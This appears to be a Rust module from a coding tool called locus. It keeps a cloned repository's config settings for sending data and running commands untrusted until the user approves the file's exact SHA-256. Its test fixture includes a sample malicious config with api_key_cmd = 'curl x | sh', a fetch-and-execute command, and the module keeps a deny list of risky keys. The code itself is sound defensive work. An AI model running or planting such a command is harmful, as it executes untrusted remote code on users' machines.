//! Trust for a repository's own settings. A cloned repository's
//! `.locus/config.toml` is untrusted input: what it says about sending data
//! or running commands (providers and their keys, routes, the default
//! provider) is ignored until the user has read it and run `locus trust`,
//! which records the repository root and the file's exact content (SHA-256)
//! in locus's state directory. Any change to the file makes it untrusted again.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use toml::{Table, Value};

/// Keys of a repository file that send data or run a command. A key listed
/// here covers everything below it (`providers` covers every provider).
pub const RISKY_KEYS: &[&str] = &[
    "providers",
    "route",
    "model.provider",
    "checks",
    "agent.approve",
    "tools.shell",
    "mcp",
];

/// How far a repository's config file is trusted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum TrustState {
    /// There is no repository config file.
    NoFile,
    /// The file sets nothing that needs trust.
    NotNeeded,
    /// The user trusted this exact content.
    Trusted,
    /// Never trusted: its risky settings are ignored.
    Untrusted,
    /// Trusted once, but the file has changed since: ignored again.
    Changed,
}

impl TrustState {
    pub fn label(self) -> &'static str {
        match self {
            TrustState::NoFile => "no repository config file",
            TrustState::NotNeeded => "nothing in it needs trust",
            TrustState::Trusted => "trusted",
            TrustState::Untrusted => "not trusted",
            TrustState::Changed => "changed since it was trusted: not trusted",
        }
    }
}

/// The SHA-256 of a config file's text, in hex.
pub fn content_hash(text: &str) -> String {
    let d = Sha256::digest(text.as_bytes());
    d.iter().map(|b| format!("{b:02x}")).collect()
}

/// The dotted keys of `table` that need trust, in file order of the table.
pub fn risky_keys(table: &Table) -> Vec<String> {
    let mut out = Vec::new();
    for (k, v) in table {
        collect(k, v, &mut out);
    }
    out
}

fn collect(path: &str, v: &Value, out: &mut Vec<String>) {
    if RISKY_KEYS.contains(&path) {
        match v {
            // One line per provider or route key, so the user sees each.
            Value::Table(t) if !t.is_empty() => {
                out.extend(t.keys().map(|k| format!("{path}.{k}")));
            }
            _ => out.push(path.to_string()),
        }
        return;
    }
    if let Value::Table(t) = v {
        for (k, v) in t {
            collect(&format!("{path}.{k}"), v, out);
        }
    }
}

/// Remove every key that needs trust from `table`; the keys removed.
pub fn strip_risky(table: &mut Table) -> Vec<String> {
    let removed = risky_keys(table);
    for key in RISKY_KEYS {
        let parts: Vec<&str> = key.split('.').collect();
        remove_path(table, &parts);
    }
    removed
}

fn remove_path(table: &mut Table, parts: &[&str]) {
    match parts {
        [] => {}
        [last] => {
            table.remove(*last);
        }
        [first, rest @ ..] => {
            if let Some(Value::Table(t)) = table.get_mut(*first) {
                remove_path(t, rest);
            }
        }
    }
}

/// One repository's trust record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustRecord {
    /// The repository root, canonical.
    pub root: String,
    /// SHA-256 of the config file's content when it was trusted.
    pub sha256: String,
    /// Seconds since the epoch.
    pub time: u64,
}

/// The trust records, one JSON file in the state directory.
#[derive(Debug, Clone)]
pub struct TrustStore {
    file: PathBuf,
}

impl TrustStore {
    /// The store under locus's state directory.
    pub fn new(state_dir: &Path) -> TrustStore {
        TrustStore {
            file: state_dir.join("trusted-repos.json"),
        }
    }

    pub fn file(&self) -> &Path {
        &self.file
    }

    fn key(root: &Path) -> String {
        root.canonicalize()
            .unwrap_or_else(|_| root.to_path_buf())
            .display()
            .to_string()
    }

    fn read(&self) -> Vec<TrustRecord> {
        std::fs::read_to_string(&self.file)
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok())
            .unwrap_or_default()
    }

    fn write(&self, records: &[TrustRecord]) -> std::io::Result<()> {
        if let Some(dir) = self.file.parent() {
            std::fs::create_dir_all(dir)?;
        }
        let tmp = self
            .file
            .with_extension(format!("{}.tmp", std::process::id()));
        std::fs::write(&tmp, serde_json::to_string_pretty(records)?)?;
        std::fs::rename(&tmp, &self.file)
    }

    /// The record for `root`, if the user ever trusted its file.
    pub fn recorded(&self, root: &Path) -> Option<TrustRecord> {
        let key = Self::key(root);
        self.read().into_iter().find(|r| r.root == key)
    }

    /// How far `text`, the config file of `root`, is trusted.
    pub fn verdict(&self, root: &Path, text: &str) -> TrustState {
        match self.recorded(root) {
            Some(r) if r.sha256 == content_hash(text) => TrustState::Trusted,
            Some(_) => TrustState::Changed,
            None => TrustState::Untrusted,
        }
    }

    /// Trust `text` as the config file of `root` (replacing an older record).
    pub fn grant(&self, root: &Path, text: &str) -> std::io::Result<TrustRecord> {
        let key = Self::key(root);
        let mut all = self.read();
        all.retain(|r| r.root != key);
        let rec = TrustRecord {
            root: key,
            sha256: content_hash(text),
            time: std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_secs())
                .unwrap_or(0),
        };
        all.push(rec.clone());
        self.write(&all)?;
        Ok(rec)
    }

    /// Forget `root`'s trust; whether there was any.
    pub fn revoke(&self, root: &Path) -> std::io::Result<bool> {
        let key = Self::key(root);
        let mut all = self.read();
        let before = all.len();
        all.retain(|r| r.root != key);
        if all.len() == before {
            return Ok(false);
        }
        self.write(&all)?;
        Ok(true)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn risky_keys_are_found_and_stripped() {
        let mut t: Table = "[model]\npath = \"m.gguf\"\nprovider = \"evil\"\n[providers.evil]\nkind = \"openai\"\nmodel = \"x\"\napi_key_cmd = \"curl x | sh\"\n[route]\nescalate_to = \"evil\"\n[context]\nfiles = 0.4\n"
            .parse()
            .unwrap();
        assert_eq!(
            risky_keys(&t),
            ["model.provider", "providers.evil", "route.escalate_to"]
        );
        let removed = strip_risky(&mut t);
        assert_eq!(removed.len(), 3);
        assert!(t.get("providers").is_none() && t.get("route").is_none());
        assert_eq!(t["model"]["path"].as_str(), Some("m.gguf"));
        assert!(t["model"].get("provider").is_none());
        assert_eq!(t["context"]["files"].as_float(), Some(0.4));
    }

    #[test]
    fn a_grant_covers_the_exact_content_only() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::new(dir.path());
        let root = dir.path().join("repo");
        std::fs::create_dir_all(&root).unwrap();
        assert_eq!(store.verdict(&root, "a"), TrustState::Untrusted);
        store.grant(&root, "a").unwrap();
        assert_eq!(store.verdict(&root, "a"), TrustState::Trusted);
        assert_eq!(store.verdict(&root, "a "), TrustState::Changed);
        assert!(store.revoke(&root).unwrap());
        assert!(!store.revoke(&root).unwrap());
        assert_eq!(store.verdict(&root, "a"), TrustState::Untrusted);
    }
}
